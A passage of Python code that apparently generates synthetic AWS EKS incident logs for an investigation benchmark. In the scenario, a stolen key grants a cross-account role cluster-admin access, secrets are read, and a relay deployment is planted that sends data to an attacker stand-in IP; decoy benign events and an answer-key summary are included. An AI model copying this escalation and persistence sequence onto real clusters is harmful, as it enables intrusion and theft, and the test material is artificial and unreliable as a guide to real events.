            vols = [{"name": "lib-modules", "hostPath": {"path": "/lib/modules", "type": ""}}]
        elif sa == "coredns":
            labels = {"k8s-app": "kube-dns", "eks.amazonaws.com/component": "coredns"}
        if kind == "ReplicaSet":
            labels["pod-template-hash"] = own.rsplit("-", 1)[1]
        else:
            labels["controller-revision-hash"] = "6c9d8b7f5"
        pods.append(M.make_pod(name, ns, created, [c], n, ip, labels=labels, owner_ref=owner_ref(kind, own, ns), sa=sa,
                               host_network=hostnet, volumes=vols, generate_name=own + "-", priority_class=pc, tolerations=tol))
    return pods


def system_serviceaccounts(created):
    return [M.serviceaccount(n, "kube-system", created) for n in ("aws-node", "coredns", "kube-proxy", "metrics-server", "default")]


def metrics_server_crb(created):
    return M.crb("metrics-server:system:auth-delegator", "system:auth-delegator", [M.SA("metrics-server", "kube-system")], created)


def access_entry_doc(principal, username, groups, created, etype="STANDARD", tags=None):
    role = principal.rsplit("/", 1)[1]
    acct = principal.split(":")[4]
    return {"accessEntry": {"clusterName": S().cluster, "principalArn": principal, "kubernetesGroups": groups,
                            "accessEntryArn": f"arn:aws:eks:{S().region}:{S().account}:access-entry/{S().cluster}/role/{acct}/{role}/"
                                              f"{stable_uuid('ae' + principal)[:8]}-{sha('ae' + principal)[:4]}-{sha('ae2' + principal)[:4]}-"
                                              f"{sha('ae3' + principal)[:4]}-{sha('ae4' + principal)[:12]}",
                            "createdAt": created, "modifiedAt": created, "tags": tags or {}, "username": username, "type": etype}}


def describe_cluster(C, version, platform, public_cidrs, logging_on, mode="API_AND_CONFIG_MAP", tags=None):
    d = M.describe_cluster(version, C["endpoint"], list(C["subnets"].values()), C["cluster_sg"], C["vpc"], C["created"], platform,
                           tags or {"env": "production"}, public_cidrs, logging_on, C["oidc"])
    d["cluster"]["accessConfig"] = {"bootstrapClusterCreatorAdminPermissions": False, "authenticationMode": mode}
    return d


ATTACK_CLI = "2.15.30"


# =============================================================================================
# Scenario 1: access-entry-xacct (prod-ledger, eu-west-1, 2026-04-02)
# =============================================================================================
X = {}


def xa_world():
    new_scenario("access-entry-xacct", 20260402, "246813579024", "eu-west-1", "prod-ledger", "2026-04-02",
                 ["10.61.100.22", "10.61.101.187"], "2cf4e6a8b0d2f4a6c8e0b2d4f6a8c0e2")
    X.clear()
    C = X
    cluster_common(C, "prod-ledger", "v1.31.5-eks-8cce635", "kubelet/v1.31.4-eks-aeac579 (linux/amd64) kubernetes/aeac579")
    C["kube_proxy"] = "v1.31.3-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-ledger-node-role", "AROAT6LQZK2VNODELDG1"
    C["ng"] = "prod-ledger-workers"
    C["nodes"] = [Node("ip-10-61-14-102.eu-west-1.compute.internal", "10.61.14.102", "i-0a1b2c3d4e5f60718", "eu-west-1a",
                       "ASIAT6LQZK2VLDGNDA01", "2026-03-30T06:12:40Z", C["ng"]),
                  Node("ip-10-61-47-23.eu-west-1.compute.internal", "10.61.47.23", "i-0b2c3d4e5f6071829", "eu-west-1b",
                       "ASIAT6LQZK2VLDGNDB02", "2026-03-30T06:12:44Z", C["ng"]),
                  Node("ip-10-61-80-211.eu-west-1.compute.internal", "10.61.80.211", "i-0c3d4e5f607182930", "eu-west-1c",
                       "ASIAT6LQZK2VLDGNDC03", "2026-03-30T06:12:47Z", C["ng"])]
    C["nat"] = "198.51.100.71"
    C["metrics_server"] = ("metrics-server-7d9c5f8b6-lq2xv", C["nodes"][2], "10.61.80.54")
    C["coredns_rs"] = "5b8f6d7c94"
    C["vpc"], C["cluster_sg"] = "vpc-0e5a7c9b1d3f52468", "sg-0f1e2d3c4b5a69708"
    C["subnets"] = {"eu-west-1a": "subnet-0a6b8c0d2e4f61357", "eu-west-1b": "subnet-0b7c9d1e3f5a72468", "eu-west-1c": "subnet-0c8d0e2f4a6b83579"}
    C["endpoint"] = "https://0B4D6F8A1C3E5B7D9F2A4C6E8B0D1F3A.gr7.eu-west-1.eks.amazonaws.com"
    C["oidc"] = "0B4D6F8A1C3E5B7D9F2A4C6E8B0D1F3A"
    C["created"] = "2025-10-14T09:21:33.512000+00:00"
    C["user"], C["user_id"], C["key"] = "svc-reporting", "AIDAT6LQZK2VRPTSVC0Q1", "AKIAT6LQZK2VQZ2XW6HN"
    C["attacker_ip"], C["attacker_k8s_ip"] = "203.0.113.19", "203.0.113.24"
    C["xacct"] = "135792468013"
    C["xrole"], C["xrole_id"] = "ledger-audit", "AROAR5M2XK7CQLEDAUD9"
    C["xrole_arn"] = f"arn:aws:iam::{C['xacct']}:role/{C['xrole']}"
    C["sessions"] = [("x9-sync", "ASIAR5M2XK7CX9SYNC01"), ("deploy-x9", "ASIAR5M2XK7CDEPLX902")]
    C["ro_role"], C["ro_role_id"] = "ledger-readonly", "AROAT6LQZK2VLEDGRO07"
    C["tf_role"], C["tf_role_id"] = "terraform-platform", "AROAT6LQZK2VTFPLAT04"
    C["ci_ip"], C["office_ip"] = "198.51.100.80", "192.0.2.14"
    C["deploy"], C["rs_hash"] = "metrics-relay", "6d9f7c5b8d"
    C["image"] = "ghcr.io/mrelay-dev/metrics-relay:2.3.1"
    C["ledger_image"] = f"{S().account}.dkr.ecr.eu-west-1.amazonaws.com/ledger-api:2026.03.31-2"
    C["relay_pods"] = [(f"metrics-relay-6d9f7c5b8d-{M.suffix('mr1')}", C["nodes"][0], "10.61.14.188"),
                       (f"metrics-relay-6d9f7c5b8d-{M.suffix('mr2')}", C["nodes"][1], "10.61.47.91")]
    C["ledger_pods"] = [(f"ledger-api-7c4f9d6b58-{M.suffix('la' + str(i))}", n, n.prefix + str(120 + 7 * i))
                        for i, n in enumerate(C["nodes"])]
    C["snap"] = T("15:10:00")


def xa_user(session, key):
    C = X
    uname = f"arn:aws:sts::{C['xacct']}:assumed-role/{C['xrole']}/{session}"
    return u_role(uname, [], C["xacct"], C["xrole"], C["xrole_id"], session, key), uname


def xa_benign():
    C = X
    # 06:00 the reporting job: the same IAM user and key, from the NAT, with boto3 (look-alike)
    boto = ("Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#5.10.213-201.855.amzn2.x86_64 md/arch#x86_64 lang/python#3.9.16 "
            "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.84")
    ident = id_user(C["user"], C["user_id"], C["key"])
    for hhmm in ("06:00:12", "06:00:13"):
        name = "DescribeCluster" if hhmm.endswith("12") else "ListNodegroups"
        params = {"name": S().cluster} if name == "DescribeCluster" else {"name": S().cluster, "maxResults": 100}
        ct(T(hhmm), ident, "eks.amazonaws.com", name, params=params, ip=C["nat"], ua=boto, step="lookalike-reporting-job")
    # 09:12 Terraform creates a legitimate access entry from the CI runner (look-alike)
    oidc = f"arn:aws:iam::{S().account}:oidc-provider/token.actions.githubusercontent.com"
    t = T("09:12:40")
    key = M.web_identity_assume(t, C["tf_role"], C["tf_role_id"], "GitHubActions", oidc,
                                "repo:ledger-org/platform-infra:environment:production", "sts.amazonaws.com", C["ci_ip"],
                                M.GHA_UA.format(api="sts"), "lookalike-terraform-access-entry")
    tf = M.id_role(C["tf_role"], C["tf_role_id"], "GitHubActions", key, t,
                   {"webIdFederationData": {"federatedProvider": oidc, "attributes": {}}})
    tf_ua = M.TF_UA.format(api="eks#1.41.1")
    ro_arn = f"arn:aws:iam::{S().account}:role/{C['ro_role']}"
    ct(t + timedelta(seconds=9), tf, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["ci_ip"], ua=tf_ua,
       step="lookalike-terraform-access-entry")
    ae = access_entry_doc(ro_arn, f"arn:aws:sts::{S().account}:assumed-role/{C['ro_role']}/{{{{SessionName}}}}", [],
                          iso_ms(t + timedelta(seconds=14)).replace("Z", "+00:00"))
    ct(t + timedelta(seconds=14), tf, "eks.amazonaws.com", "CreateAccessEntry",
       params={"name": S().cluster, "principalArn": ro_arn, "type": "STANDARD",
               "clientRequestToken": "terraform-20260402091254118300000001", "tags": {"managed-by": "terraform"}},
       resp=ae, ip=C["ci_ip"], ua=tf_ua, read_only=False, step="lookalike-terraform-access-entry")
    ct(t + timedelta(seconds=16), tf, "eks.amazonaws.com", "AssociateAccessPolicy",
       params={"name": S().cluster, "principalArn": urllib.parse.quote(ro_arn, safe=""),
               "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy",
               "accessScope": {"type": "namespace", "namespaces": ["ledger"]}},
       resp={"clusterName": S().cluster, "principalArn": ro_arn,
             "associatedAccessPolicy": {"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy",
                                        "accessScope": {"type": "namespace", "namespaces": ["ledger"]},
                                        "associatedAt": iso_ms(t + timedelta(seconds=16)).replace("Z", "+00:00"),
                                        "modifiedAt": iso_ms(t + timedelta(seconds=16)).replace("Z", "+00:00")}},
       ip=C["ci_ip"], ua=tf_ua, read_only=False, step="lookalike-terraform-access-entry")
    # 10:02 the new read-only role is used from the office to look at the ledger pods
    sess, k = "p.novak@example.com", "ASIAT6LQZK2VROSESS11"
    uname = f"arn:aws:sts::{S().account}:assumed-role/{C['ro_role']}/{sess}"
    user = u_role(uname, [], S().account, C["ro_role"], C["ro_role_id"], sess, k)
    ro_reason = (f'EKS Access Policy: allowed by RoleBinding "{ro_arn}+arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy/ledger" '
                 f'of ClusterRole "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy" to User "{uname}"')
    kd = "kubectl/v1.31.2 (darwin/arm64) kubernetes/5864a46"
    audit(T("10:02:31.204411"), user, "list", "/api/v1/namespaces/ledger/pods?limit=500", oref("pods", "ledger"), level="Request",
          ua=kd, src=[C["office_ip"]], reason=ro_reason, step="lookalike-readonly-user")
    audit(T("10:02:48.551020"), user, "get", "/apis/apps/v1/namespaces/ledger/deployments/ledger-api",
          oref("deployments", "ledger", "ledger-api", "apps"), level="Request", ua=kd, src=[C["office_ip"]], reason=ro_reason,
          step="lookalike-readonly-user")


def xa_attack():
    C = X
    atk, ua_k = C["attacker_ip"], "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
    ident = id_user(C["user"], C["user_id"], C["key"])
    A = dict(ip=atk, label="attack")
    ct(T("13:41:05"), ident, "sts.amazonaws.com", "GetCallerIdentity", params=None,
       ua=cli_ua("sts.get-caller-identity", ATTACK_CLI), step="aws-recon", **A)
    ct(T("13:41:31"), ident, "eks.amazonaws.com", "ListClusters", params={"maxResults": 100},
       ua=cli_ua("eks.list-clusters", ATTACK_CLI), step="aws-recon", **A)
    ct(T("13:41:48"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster},
       ua=cli_ua("eks.describe-cluster", ATTACK_CLI), step="aws-recon", **A)
    ct(T("13:42:20"), ident, "eks.amazonaws.com", "ListAccessEntries", params={"name": S().cluster, "maxResults": 100},
       ua=cli_ua("eks.list-access-entries", ATTACK_CLI), step="aws-recon", **A)
    created = T("13:43:02")
    ae = access_entry_doc(C["xrole_arn"], f"arn:aws:sts::{C['xacct']}:assumed-role/{C['xrole']}/{{{{SessionName}}}}", [],
                          iso_ms(created + timedelta(milliseconds=418)).replace("Z", "+00:00"))
    ct(created, ident, "eks.amazonaws.com", "CreateAccessEntry",
       params={"name": S().cluster, "principalArn": C["xrole_arn"], "type": "STANDARD"}, resp=ae,
       ua=cli_ua("eks.create-access-entry", ATTACK_CLI), read_only=False, step="aws-create-access-entry", **A)
    assoc = T("13:43:19")
    ct(assoc, ident, "eks.amazonaws.com", "AssociateAccessPolicy",
       params={"clusterName": S().cluster, "principalArn": urllib.parse.quote(C["xrole_arn"], safe=""),
               "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy", "accessScope": {"type": "cluster"}},
       resp={"clusterName": S().cluster, "principalArn": C["xrole_arn"],
             "associatedAccessPolicy": {"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
                                        "accessScope": {"type": "cluster", "namespaces": []},
                                        "associatedAt": iso_ms(assoc).replace("Z", "+00:00"), "modifiedAt": iso_ms(assoc).replace("Z", "+00:00")}},
       ua=cli_ua("eks.associate-access-policy", ATTACK_CLI), read_only=False, step="aws-associate-admin-policy", **A)

    # the cross-account role's sessions in the cluster (only the audit log sees them)
    user1, name1 = xa_user(*C["sessions"][0])
    reason1 = policy_reason(C["xrole_arn"], name1)
    K = dict(user=user1, src=[C["attacker_k8s_ip"]], ua=ua_k, label="attack", reason=reason1)
    audit(T("13:47:10.331842"), verb="get", uri="/api?timeout=32s", step="k8s-discovery", level="Request", **K)
    audit(T("13:47:10.902276"), verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
          objref=oref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201, level="RequestResponse",
          req={"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "default"}},
          resp={"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "default"},
                "status": {"resourceRules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}],
                           "nonResourceRules": [{"verbs": ["*"], "nonResourceURLs": ["*"]}], "incomplete": False}},
          step="k8s-permission-check", **K)
    audit(T("13:47:31.118035"), verb="list", uri="/api/v1/namespaces?limit=500", objref=oref("namespaces"), level="Request",
          step="k8s-enumerate", **K)
    audit(T("13:48:01.640772"), verb="list", uri="/api/v1/secrets?limit=500", objref=oref("secrets"), step="k8s-list-secrets", **K)
    audit(T("13:48:20.077193"), verb="get", uri="/api/v1/namespaces/ledger/secrets/ledger-db-credentials",
          objref=oref("secrets", "ledger", "ledger-db-credentials"), step="k8s-read-secret", **K)
    audit(T("13:48:29.512408"), verb="get", uri="/api/v1/namespaces/ledger/secrets/ledger-signing-key",
          objref=oref("secrets", "ledger", "ledger-signing-key"), step="k8s-read-secret", **K)
    audit(T("13:49:03.221956"), verb="list", uri="/api/v1/nodes?limit=500", objref=oref("nodes"), level="Request",
          step="k8s-enumerate", **K)
    # a second session deploys the relay into kube-system
    user2, name2 = xa_user(*C["sessions"][1])
    K2 = dict(user=user2, src=[C["attacker_k8s_ip"]], ua=ua_k, label="attack", reason=policy_reason(C["xrole_arn"], name2))
    dep, ns, h = C["deploy"], "kube-system", C["rs_hash"]
    labels = {"app.kubernetes.io/name": dep, "k8s-app": dep}
    containers = [{"name": "relay", "image": C["image"], "args": ["--upstream=https://203.0.113.24:8443/ingest", "--interval=60s"],
                   "resources": {"requests": {"cpu": "50m", "memory": "64Mi"}}}]
    tmpl = {"metadata": {"labels": labels}, "spec": {"containers": containers, "serviceAccountName": "default",
                                                     "tolerations": [{"operator": "Exists"}],
                                                     "topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "kubernetes.io/hostname",
                                                                                    "whenUnsatisfiable": "DoNotSchedule",
                                                                                    "labelSelector": {"matchLabels": labels}}]}}
    t = T("13:52:30.418207")
    dep_uid = stable_uuid(f"Deployment/{ns}/{dep}")
    audit(t, verb="create", uri=f"/apis/apps/v1/namespaces/{ns}/deployments?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
          objref=oref("deployments", ns, dep, "apps"), code=201, level="RequestResponse",
          req={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": dep, "namespace": ns, "labels": labels},
               "spec": {"replicas": 2, "selector": {"matchLabels": labels}, "template": tmpl}},
          resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": dep, "namespace": ns, "uid": dep_uid, "labels": labels,
                                                                           "creationTimestamp": iso_s(t), "generation": 1},
                "spec": {"replicas": 2, "selector": {"matchLabels": labels}, "template": tmpl}},
          step="k8s-create-deployment", **K2)
    rs = f"{dep}-{h}"
    t2 = later(t, 0, 30, 80)
    audit(t2, u_sa("kube-system", "deployment-controller"), "create", f"/apis/apps/v1/namespaces/{ns}/replicasets",
          oref("replicasets", ns, rs, "apps"), code=201, level="RequestResponse", ua=kcm_ua(C["server"], "deployment-controller"),
          req={"kind": "ReplicaSet", "apiVersion": "apps/v1",
               "metadata": {"name": rs, "namespace": ns, "labels": dict(labels, **{"pod-template-hash": h}),
                            "ownerReferences": [owner_ref("Deployment", dep, ns)]},
               "spec": {"replicas": 2, "selector": {"matchLabels": dict(labels, **{"pod-template-hash": h})}}},
          resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns,
                                                                           "uid": stable_uuid(f"ReplicaSet/{ns}/{rs}"),
                                                                           "ownerReferences": [owner_ref("Deployment", dep, ns)]}},
          reason=controller_reason("deployment-controller"), label="attack", step="k8s-pods-scheduled")
    t3 = later(t2, 0, 40, 90)
    for name, node, ip in C["relay_pods"]:
        controller_pod(C, t3, ns, name, owner_ref("ReplicaSet", rs, ns), node, containers, "default", "replicaset-controller", "attack",
                       "k8s-pods-scheduled", labels=dict(labels, **{"pod-template-hash": h}), tolerations=[{"operator": "Exists"}])
        t3 = later(t3, 0, 20, 60)
    # later recon by the first session: aws-auth, every pod with its node
    audit(T("14:20:44.730914"), verb="get", uri="/api/v1/namespaces/kube-system/configmaps/aws-auth",
          objref=oref("configmaps", "kube-system", "aws-auth"), step="k8s-read-aws-auth", **K)
    audit(T("14:21:02.118560"), verb="list", uri="/api/v1/pods?limit=500", objref=oref("pods"), level="Request",
          step="k8s-enumerate", **K)
    X["t"] = {"secrets": T("13:48:01.640772")}


def xa_guardduty():
    C = X
    name1 = xa_user(*C["sessions"][0])[1]
    cluster = {"name": S().cluster, "arn": S().cluster_arn, "vpcId": C["vpc"], "status": "ACTIVE",
               "tags": [{"key": "env", "value": "production"}], "createdAt": epoch(T("09:21:33.512", "2025-10-14"))}
    res = {"resourceType": "EKSCluster", "eksClusterDetails": cluster,
           "kubernetesDetails": {"kubernetesUserDetails": {"username": name1, "uid": f"aws-iam-authenticator:{C['xacct']}:{C['xrole_id']}",
                                                           "groups": ["system:authenticated"], "sessionName": [C["sessions"][0][0]]}}}
    act = {"actionType": "KUBERNETES_API_CALL",
           "kubernetesApiCallAction": {"requestUri": "/api/v1/secrets", "verb": "list", "sourceIps": [C["attacker_k8s_ip"]],
                                       "userAgent": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", "statusCode": 200,
                                       "resource": "secrets",
                                       "remoteIpDetails": {"ipAddressV4": C["attacker_k8s_ip"], "organization": {"asn": "64500", "asnOrg": "EXAMPLE-TRANSIT", "isp": "Example Transit", "org": "Example Transit"},
                                                           "country": {"countryName": "Netherlands"}, "city": {"cityName": "Amsterdam"},
                                                           "geoLocation": {"lat": 52.37, "lon": 4.89}}}}
    anomaly = {"profiles": {"frequent": {"user": {"kubernetesUserName": {"profileType": "FREQUENCY", "profileSubtype": "FREQUENT",
                                                                        "observations": {"text": name1}}}}},
               "unusual": {"behavior": {"user": {"kubernetesUserName": {"APICall": "list secrets"}}}}}
    finding("7e9c1a3b5d7f9e1c3a5b7d9f1e3c5a7b", "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed", 6,
            "Kubernetes secrets were accessed in an unusual way by a principal.",
            f"Kubernetes API commonly used to access secrets was invoked in an unusual way by {name1} on EKS cluster {S().cluster}.",
            res, M.service_block(X["t"]["secrets"], T("13:48:29.512"), 3, act, feature="EksAuditLogs",
                                 extra={"detection": {"anomaly": anomaly}}),
            T("14:05:12.640"), T("14:05:12.640"), step="detect-secrets-accessed")


def xa_snapshot():
    C = X
    A, B_, Cn = C["nodes"]
    pods = system_pod_objects(C, T("06:15:02", "2026-03-30"), ["10.61.14.33", "10.61.47.140"])
    for name, n, ip in C["ledger_pods"]:
        pods.append(M.make_pod(name, "ledger", T("16:40:12", "2026-03-31"), [{"name": "ledger-api", "image": C["ledger_image"],
                                                                              "resources": {"requests": {"cpu": "250m", "memory": "512Mi"}}}],
                               n, ip, labels={"app.kubernetes.io/name": "ledger-api", "pod-template-hash": "7c4f9d6b58"},
                               owner_ref=owner_ref("ReplicaSet", "ledger-api-7c4f9d6b58", "ledger"), sa="ledger-api",
                               generate_name="ledger-api-7c4f9d6b58-"))
    labels = {"app.kubernetes.io/name": C["deploy"], "k8s-app": C["deploy"], "pod-template-hash": C["rs_hash"]}
    for name, n, ip in C["relay_pods"]:
        pods.append(M.make_pod(name, "kube-system", T("13:52:31"), [{"name": "relay", "image": C["image"],
                                                                     "args": ["--upstream=https://203.0.113.24:8443/ingest", "--interval=60s"],
                                                                     "resources": {"requests": {"cpu": "50m", "memory": "64Mi"}}}],
                               n, ip, labels=labels, owner_ref=owner_ref("ReplicaSet", f"{C['deploy']}-{C['rs_hash']}", "kube-system"),
                               generate_name=f"{C['deploy']}-{C['rs_hash']}-", tolerations=[{"operator": "Exists"}]))
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    rc = [{"name": "relay", "image": C["image"]}]
    dep = M.deployment(C["deploy"], "kube-system", "2026-04-02T13:52:30Z", 2, {"k8s-app": C["deploy"]},
                       {"app.kubernetes.io/name": C["deploy"], "k8s-app": C["deploy"]}, rc, "default", C["rs_hash"], 1)
    dep["metadata"]["uid"] = stable_uuid(f"Deployment/kube-system/{C['deploy']}")
    rs = M.replicaset(C["deploy"], "kube-system", C["rs_hash"], "2026-04-02T13:52:30Z", 2,
                      {"app.kubernetes.io/name": C["deploy"], "k8s-app": C["deploy"]}, rc, "default", 1)
    rs["metadata"]["uid"] = stable_uuid(f"ReplicaSet/kube-system/{C['deploy']}-{C['rs_hash']}")
    rs["metadata"]["ownerReferences"] = [owner_ref("Deployment", C["deploy"], "kube-system")]
    lc = [{"name": "ledger-api", "image": C["ledger_image"]}]
    ldep = M.deployment("ledger-api", "ledger", "2025-10-20T11:02:41Z", 3, {"app.kubernetes.io/name": "ledger-api"},
                        {"app.kubernetes.io/name": "ledger-api"}, lc, "ledger-api", "7c4f9d6b58", 41)
    ldep["metadata"]["uid"] = stable_uuid("Deployment/ledger/ledger-api")
    lrs = M.replicaset("ledger-api", "ledger", "7c4f9d6b58", "2026-03-31T16:40:10Z", 3, {"app.kubernetes.io/name": "ledger-api"}, lc,
                       "ledger-api", 41)
    lrs["metadata"]["uid"] = stable_uuid("ReplicaSet/ledger/ledger-api-7c4f9d6b58")
    lrs["metadata"]["ownerReferences"] = [owner_ref("Deployment", "ledger-api", "ledger")]
    sas = system_serviceaccounts("2025-10-14T09:30:02Z") + [M.serviceaccount("ledger-api", "ledger", "2025-10-20T11:02:40Z"),
                                                             M.serviceaccount("default", "ledger", "2025-10-20T11:02:38Z")]
    crbs = M.system_crbs("2025-10-14T09:30:02Z") + [metrics_server_crb("2025-10-14T09:41:12Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    cms = [M.aws_auth(f"arn:aws:iam::{S().account}:role/{C['node_role']}", "2025-10-14T09:35:51Z")]
    nodes = [M.node_object(n, "euw1-az" + str(i + 1), C["snap"], "v1.31.4-eks-aeac579", "ami-0e1f2a3b4c5d6e7f8") for i, n in enumerate(C["nodes"])]
    principals = [f"arn:aws:iam::{S().account}:role/{C['node_role']}", f"arn:aws:iam::{S().account}:role/{C['tf_role']}",
                  f"arn:aws:iam::{S().account}:role/platform-admin", f"arn:aws:iam::{S().account}:role/{C['ro_role']}", C["xrole_arn"]]
    snap = {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes),
            "deployments.json": k8s_list([dep, ldep]), "replicasets.json": k8s_list([rs, lrs]),
            "serviceaccounts.json": k8s_list(sas), "clusterrolebindings.json": k8s_list(crbs),
            "configmaps-kube-system.json": k8s_list(cms),
            "eks-describe-cluster.json": describe_cluster(C, "1.31", "eks.21", ["0.0.0.0/0"], ["api", "audit", "authenticator"],
                                                          tags={"env": "production", "team": "ledger"}),
            "eks-list-access-entries.json": {"accessEntries": sorted(principals)},
            "eks-describe-access-entry-ledger-audit.json": access_entry_doc(
                C["xrole_arn"], f"arn:aws:sts::{C['xacct']}:assumed-role/{C['xrole']}/{{{{SessionName}}}}", [], "2026-04-02T13:43:02.418000+00:00"),
            "eks-describe-access-entry-ledger-readonly.json": access_entry_doc(
                f"arn:aws:iam::{S().account}:role/{C['ro_role']}", f"arn:aws:sts::{S().account}:assumed-role/{C['ro_role']}/{{{{SessionName}}}}",
                [], "2026-04-02T09:12:54.000000+00:00", tags={"managed-by": "terraform"}),
            "eks-list-associated-access-policies-ledger-audit.json": {
                "clusterName": S().cluster, "principalArn": C["xrole_arn"],
                "associatedAccessPolicies": [{"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
                                              "accessScope": {"type": "cluster", "namespaces": []},
                                              "associatedAt": "2026-04-02T13:43:19.000000+00:00",
                                              "modifiedAt": "2026-04-02T13:43:19.000000+00:00"}]}}
    return snap


XA_STEPS = {
    "aws-recon": "the stolen svc-reporting key from 203.0.113.19 (aws-cli on Kali): GetCallerIdentity, ListClusters, DescribeCluster, ListAccessEntries",
    "aws-create-access-entry": "CreateAccessEntry for arn:aws:iam::135792468013:role/ledger-audit (another account; cluster named by requestParameters.name)",
    "aws-associate-admin-policy": "AssociateAccessPolicy AmazonEKSClusterAdminPolicy, scope cluster (cluster named by requestParameters.clusterName, principalArn URL-encoded)",
    "k8s-discovery": "the cross-account role's session x9-sync (username arn:aws:sts::135792468013:assumed-role/ledger-audit/x9-sync) from 203.0.113.24",
    "k8s-permission-check": "kubectl auth can-i --list",
    "k8s-enumerate": "list namespaces, nodes and every pod",
    "k8s-list-secrets": "list every secret in the cluster",
    "k8s-read-secret": "read ledger/ledger-db-credentials and ledger/ledger-signing-key",
    "k8s-read-aws-auth": "read kube-system/aws-auth",
    "k8s-create-deployment": "session deploy-x9 creates Deployment kube-system/metrics-relay (2 replicas, spread over nodes)",
    "k8s-pods-scheduled": "deployment-controller creates ReplicaSet metrics-relay-6d9f7c5b8d; replicaset-controller creates its two pods (ownerReferences); the scheduler binds them to two nodes; the kubelets fetch their tokens and report them running",
    "detect-secrets-accessed": "GuardDuty CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed naming the session's username",
    "lookalike-reporting-job": "benign: the reporting job uses the same svc-reporting key every morning from the NAT (198.51.100.71) with boto3",
    "lookalike-terraform-access-entry": "benign: Terraform (terraform-platform, GitHub runner 198.51.100.80, a CI/CD identity) creates an access entry for ledger-readonly with AmazonEKSViewPolicy on namespace ledger",
    "lookalike-readonly-user": "benign: the new read-only role is used from the office (192.0.2.14)",
    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
}


def xa_consistency(docs):
    problems = []
    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
    rs = {r["metadata"]["name"]: r for r in docs["snapshot/replicasets.json"]["items"]}
    dep = {d["metadata"]["name"]: d for d in docs["snapshot/deployments.json"]["items"]}
    for name, node, _ in X["relay_pods"]:
        p = pods[name]
        o = p["metadata"]["ownerReferences"][0]
        if p["spec"]["nodeName"] != node.name or rs[o["name"]]["metadata"]["uid"] != o["uid"]:
            problems.append(f"snapshot: {name} owner or node mismatch")
        if rs[o["name"]]["metadata"]["ownerReferences"][0]["uid"] != dep[X["deploy"]]["metadata"]["uid"]:
            problems.append("snapshot: ReplicaSet owner != Deployment uid")
    for ev in docs["k8s-audit/kube-apiserver-audit.log"]:
        if ev["verb"] == "create" and ev.get("objectRef", {}).get("subresource") == "binding":
            name = ev["objectRef"]["name"]
            if name in pods and pods[name]["spec"]["nodeName"] != ev["requestObject"]["target"]["name"]:
                problems.append(f"audit: binding of {name} names another node than the snapshot")
    entries = docs["snapshot/eks-list-access-entries.json"]["accessEntries"]
    if X["xrole_arn"] not in entries:
        problems.append("snapshot: the cross-account access entry is missing")
    return problems


def build_access_entry_xacct(out):
    xa_world()
    C = X
    xa_benign()
    xa_attack()
    xa_guardduty()
    audit_background(C, T("05:40:03.118204"), T("15:05:00"), gap=(70, 110))
    cloudtrail_background(C, range(6, 16, 2))
    base = os.path.join(out, "access-entry-xacct")
    files = {}
    write_ct_s3(base, files, ct_records())
    write_ct_eventbridge(base, files, ct_records(lambda r: r["eventSource"] == "eks.amazonaws.com"), "cloudtrail/eventbridge-eks.jsonl")
    write_audit_log(base, files, audit_events())
    write_guardduty_cli(base, files)
    write_snapshot(base, files, xa_snapshot())
    A, B_, Cn = C["nodes"]
    nm = lambda s: f"arn:aws:sts::{C['xacct']}:assumed-role/{C['xrole']}/{s}"
    relay = [p for p, _, _ in C["relay_pods"]]
    head = {
        "scenario": "access-entry-xacct",
        "summary": (f"The long-lived key {C['key']} of IAM user {C['user']} is used from {C['attacker_ip']} to give the role "
                    f"{C['xrole_arn']} (account {C['xacct']}) an EKS access entry on {S().cluster} ({S().account}, {S().region}) with "
                    "AmazonEKSClusterAdminPolicy. Two sessions of that role then read every secret and deploy "
                    f"kube-system/{C['deploy']}, whose two pods run on {A.name} and {B_.name}."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "unauthorised access to cluster-admin credentials",
             "evidence": "AssociateAccessPolicy AmazonEKSClusterAdminPolicy (scope cluster) for a role of another account, made with a stolen key; the role's sessions then act as cluster admin"},
            {"level": "High", "criterion": "exposure of sensitive configuration", "evidence": "list of every secret; ledger-db-credentials and ledger-signing-key read"},
            {"level": "High", "criterion": "unauthorised deployment modifications", "evidence": f"Deployment kube-system/{C['deploy']} created by the cross-account session deploy-x9"},
        ],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "compromised_user": f"arn:aws:iam::{S().account}:user/{C['user']}", "access_key": C["key"],
            "attacker_ips": [C["attacker_ip"], C["attacker_k8s_ip"]], "attacker_account": C["xacct"],
